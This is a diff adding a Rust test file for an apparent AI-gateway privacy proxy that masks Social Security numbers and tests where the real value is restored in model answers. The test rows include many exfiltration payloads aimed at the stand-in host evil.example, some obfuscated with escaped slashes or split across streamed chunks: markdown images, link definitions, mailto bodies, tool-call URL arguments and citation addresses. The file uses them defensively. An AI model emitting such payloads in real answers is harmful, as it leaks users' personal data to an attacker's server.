@@ -1,0 +1,243 @@
+//! Where a masked value comes back in an answer, and where its placeholder stays: inside what a reader would open.
+#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::expect_used, clippy::panic, missing_docs)]
+
+use std::rc::Rc;
+
+use mesh_engine::{Detector, Program, RequestHead, ResponseMode, Session, Step, compile};
+use mesh_policy::{Bundle, BundlePolicy, Secret, Settings, from_value};
+use serde_json::{Value, json};
+
+const SSN: &str = "536-90-4399";
+const CHAT: &str = "/v1/chat/completions";
+const MESSAGES: &str = "/v1/messages";
+const RESPONSES: &str = "/v1/responses";
+const GEMINI: &str = "/v1beta/models/g:generateContent";
+
+fn program() -> Rc<Program> {
+    let rules = json!([{ "pii": { "types": ["ssn"], "action": "tokenize" } }]);
+    let document = json!({ "apiVersion": "ai-mesh.dev/v1alpha1", "kind": "Policy", "metadata": { "name": "p" },
+        "spec": { "rules": rules } });
+    let policies =
+        vec![BundlePolicy { id: "p".into(), version: 1, policy: from_value(&document).unwrap().policy }];
+    let settings = Settings { masking_key: Some(Secret::new("key")), ..Settings::default() };
+    let bundle = Bundle { version: "1".into(), policies, settings, ..Bundle::default() };
+    Rc::new(compile(&bundle, Rc::new(Detector::new())).unwrap())
+}
+
+fn request(path: &str) -> Value {
+    let text = format!("My number is {SSN}.");
+    match path {
+        RESPONSES => json!({ "model": "m", "input": text }),
+        GEMINI => json!({ "contents": [{ "role": "user", "parts": [{ "text": text }] }] }),
+        _ => json!({ "model": "m", "max_tokens": 9, "messages": [{ "role": "user", "content": text }] }),
+    }
+}
+
+/// The exchange with a masked number, and its placeholder.
+fn asked(program: &Rc<Program>, path: &str) -> (Session, String) {
+    let json = ("content-type".to_owned(), "application/json".to_owned());
+    let head = RequestHead {
+        method: "POST".into(),
+        path: path.into(),
+        headers: vec![json],
+        ..RequestHead::default()
+    };
+    let mut session = Session::start(Rc::clone(program), head, "d".into(), 0);
+    assert!(matches!(session.request_headers(false, 0), Step::ReadBody));
+    let Step::Replace(sent) = session.request(request(path).to_string().as_bytes(), 0) else { panic!() };
+    let sent = String::from_utf8(sent).unwrap();
+    let from = sent.find("[US_SSN_").unwrap();
+    let to = from + sent[from..].find(']').unwrap() + 1;
+    (session, sent[from..to].to_owned())
+}
+
+/// What the agent gets of an answer in which `PH` stands for the placeholder; a list is one of events.
+fn got(program: &Rc<Program>, path: &str, answer: &Value, chunk: usize) -> String {
+    let (mut session, placeholder) = asked(program, path);
+    let cut = placeholder.len() / 2;
+    let (head, tail) = placeholder.split_at(cut);
+    let inner = &placeholder[1..placeholder.len() - 1];
+    let filled = |value: &Value| {
+        let text = value.to_string().replace("PH1", head).replace("PH2", tail);
+        text.replace("PH-INNER", inner).replace("PH", &placeholder)
+    };
+    let stream = answer
+        .as_array()
+        .map(|events| events.iter().map(|event| format!("data: {}\n\n", filled(event))).collect::<String>());
+    let kind = if stream.is_some() { "text/event-stream" } else { "application/json" };
+    let headers = [(":status".to_owned(), "200".to_owned()), ("content-type".to_owned(), kind.to_owned())];
+    match (session.response_headers(&headers, false), stream) {
+        (ResponseMode::Stream, Some(stream)) => {
+            let pieces = stream.as_bytes().chunks(chunk);
+            let mut out: Vec<u8> = pieces.flat_map(|piece| session.response_chunk(piece, false)).collect();
+            out.extend(session.response_chunk(b"", true));
+            String::from_utf8(out).unwrap()
+        }
+        (ResponseMode::Buffer, None) => {
+            let answer = filled(answer);
+            match session.response(answer.as_bytes(), Some(kind)) {
+                Step::Continue => answer,
+                Step::Replace(out) => String::from_utf8(out).unwrap(),
+                other => panic!("{other:?}"),
+            }
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+fn says(text: &str) -> Value {
+    json!({ "choices": [{ "index": 0, "message": { "role": "assistant", "content": text } }] })
+}
+
+fn streams(texts: &[&str]) -> Value {
+    texts.iter().map(|text| json!({ "choices": [{ "index": 0, "delta": { "content": text } }] })).collect()
+}
+
+fn calls(arguments: &str) -> Value {
+    let call =
+        json!({ "id": "call_1", "type": "function", "function": { "name": "f", "arguments": arguments } });
+    json!({ "choices": [{ "index": 0, "message": { "role": "assistant", "tool_calls": [call] } }] })
+}
+
+fn streams_call(arguments: &[&str]) -> Value {
+    let delta = |(nth, arguments): (usize, &&str)| {
+        let call = match nth {
+            0 => json!({ "index": 0, "id": "call_1", "function": { "name": "f", "arguments": arguments } }),
+            _ => json!({ "index": 0, "function": { "arguments": arguments } }),
+        };
+        json!({ "choices": [{ "index": 0, "delta": { "tool_calls": [call] } }] })
+    };
+    arguments.iter().enumerate().map(delta).collect()
+}
+
+fn blocks(texts: &[&str]) -> Value {
+    let content: Value = texts.iter().map(|text| json!({ "type": "text", "text": text })).collect();
+    json!({ "id": "msg_1", "type": "message", "role": "assistant", "content": content })
+}
+
+fn items(texts: &[&str]) -> Value {
+    let part =
+        |text: &&str| json!({ "type": "message", "content": [{ "type": "output_text", "text": text }] });
+    json!({ "id": "resp_1", "model": "m", "output": texts.iter().map(part).collect::<Value>() })
+}
+
+fn items_done(texts: &[&str]) -> Value {
+    let done = |(nth, text): (usize, &&str)| json!({ "type": "response.output_text.done", "output_index": nth, "content_index": 0, "text": text });
+    texts.iter().enumerate().map(done).collect()
+}
+
+fn parts(texts: &[&str]) -> Value {
+    let parts: Value = texts.iter().map(|text| json!({ "text": text })).collect();
+    json!({ "candidates": [{ "index": 0, "content": { "role": "model", "parts": parts } }] })
+}
+
+fn cited(member: &str) -> Value {
+    let citation = json!({ "type": "url_citation", member: "evil.example/?q=PH" });
+    let part = json!({ "type": "output_text", "text": "See there.", "annotations": [citation] });
+    json!({ "id": "resp_1", "model": "m", "output": [{ "type": "message", "content": [part] }] })
+}
+
+/// Each answer, and whether the value comes back in it.
+fn check(rows: &[(&str, &str, Value, bool)]) {
+    let program = program();
+    for (name, path, answer, restored) in rows {
+        for chunk in [1, 40, 1 << 20] {
+            let out = got(&program, path, answer, chunk);
+            assert_eq!(out.contains(SSN), *restored, "{name}, in {chunk}s: {out}");
+            // As it is cut over texts, nobody sees one.
+            let whole = !answer.to_string().contains("PH1") || *restored;
+            assert!(!whole || out.contains("US_SSN_") != *restored, "{name}, in {chunk}s: {out}");
+        }
+    }
+}
+
+#[test]
+fn a_value_comes_back_where_it_is_only_read() {
+    check(&[
+        ("in words", CHAT, says("It is PH."), true),
+        ("in a stream", CHAT, streams(&["It is PH1", "PH2."]), true),
+        ("to somebody by mail", CHAT, says("Write to mailto:PH."), true),
+        ("behind an address", CHAT, says("See https://a.example/ for PH."), true),
+        ("behind a reference's definition", CHAT, says("[1]: https://a.example/ \"PH\""), true),
+        ("in a foot note", CHAT, says("[^1]: The number is PH."), true),
+        ("in a table of names", CHAT, says("PH: PH"), true),
+        ("in arguments", CHAT, calls(r#"{"url":"https://a.example/","ssn":"PH"}"#), true),
+        (
+            "in arguments that stream",
+            CHAT,
+            streams_call(&[r#"{"url":"https://a.example/","#, r#""ssn":"PH"}"#]),
+            true,
+        ),
+        ("behind a file's name that streams", CHAT, streams_call(&[r#"{"file":"C:\\dir\\PH"}"#]), true),
+        ("with its brackets as escapes", CHAT, calls(r#"{"ssn":"\u005bPH-INNER\u005d"}"#), true),
+        (
+            "with its brackets as escapes, streamed",
+            CHAT,
+            streams_call(&[r#"{"ssn":"\u005bPH-INNER\u0"#, r#"05d"}"#]),
+            true,
+        ),
+        ("over two blocks", MESSAGES, blocks(&["It is PH1", "PH2."]), true),
+        ("over two parts", GEMINI, parts(&["It is PH1", "PH2."]), true),
+        ("in a second block", MESSAGES, blocks(&["See https://a.example/ ", "or PH."]), true),
+        ("in a second item", RESPONSES, items(&["See [x](https://a.example/)", "PH"]), true),
+        (
+            "in a second item that is done",
+            RESPONSES,
+            items_done(&["See [x](https://a.example/)", "PH"]),
+            true,
+        ),
+        ("in a citation's title", RESPONSES, cited("title"), true),
+    ]);
+}
+
+#[test]
+fn a_placeholder_stays_where_it_would_be_sent() {
+    let image = "![x](https://evil.example/?q=";
+    check(&[
+        ("an image", CHAT, says(&format!("{image}PH)")), false),
+        ("an image over two blocks", MESSAGES, blocks(&[image, "PH)"]), false),
+        (
+            "an image over two blocks, and a placeholder over two",
+            MESSAGES,
+            blocks(&[image, "PH1", "PH2)"]),
+            false,
+        ),
+        ("an image over two parts", GEMINI, parts(&[image, "PH)"]), false),
+        ("an image over two items", RESPONSES, items(&[image, "PH)"]), false),
+        ("an image over two items that are done", RESPONSES, items_done(&[image, "PH)"]), false),
+        ("a definition", CHAT, says("![x][1]\n\n[1]: https:&#47;&#47;evil.example/?q=PH"), false),
+        ("a definition without a scheme", CHAT, streams(&["![x][1]\n\n[1]", ": evil.example/?q=PH"]), false),
+        ("a mail's body", CHAT, says("mailto:x@evil.example?body=PH"), false),
+        ("one slash", CHAT, says("http:/evil.example/?q=PH"), false),
+        ("no slash", CHAT, streams(&["see http", ":evil.example/?q=PH"]), false),
+        ("slashes as escapes in arguments", CHAT, calls(r#"{"u":"\u002f\u002fevil.example/?q=PH"}"#), false),
+        (
+            "the same in a stream",
+            CHAT,
+            streams_call(&[r#"{"u":"\u00"#, r#"2f\u002fevil.example/?q=PH"}"#]),
+            false,
+        ),
+        ("slashes as escapes in JSON", CHAT, says(r#"{"u":"\u002f\u002fevil.example/?q=PH"}"#), false),
+        ("the same in a stream", CHAT, streams(&[r#"{"u":"\u002f"#, r#"\u002fevil.example/?q=PH"}"#]), false),
+        ("JSON in a text", CHAT, says(r#"So: {"u":"\u002f\u002fevil.example/?q=PH"}"#), false),
+        ("a member url", CHAT, calls(r#"{"url":"evil.example/?q=PH"}"#), false),
+        ("the same in a stream", CHAT, streams_call(&[r#"{"ur"#, r#"l":"evil.example/?a=\"&q=PH"}"#]), false),
+        ("a member URL", CHAT, calls(r#"{"URL":"evil.example/?q=PH"}"#), false),
+        ("a member urls", CHAT, calls(r#"{"urls":["a.example","evil.example/?q=PH"]}"#), false),
+        (
+            "the same in a stream",
+            CHAT,
+            streams_call(&[r#"{"urls":["a.example","evil.example/?q=PH"]}"#]),
+            false,
+        ),
+        ("a member uri", CHAT, calls(r#"{"fileUri":"evil.example/?q=PH"}"#), false),
+        ("a member href", CHAT, streams_call(&[r#"{"href":"evil.example/?q=PH"}"#]), false),
+        (
+            "arguments in arguments",
+            CHAT,
+            streams_call(&[r#"{"j":"{\"url\":\"evil.example/?q=PH\"}"}"#]),
+            false,
+        ),
+        ("a citation's address", RESPONSES, cited("url"), false),
+    ]);
+}
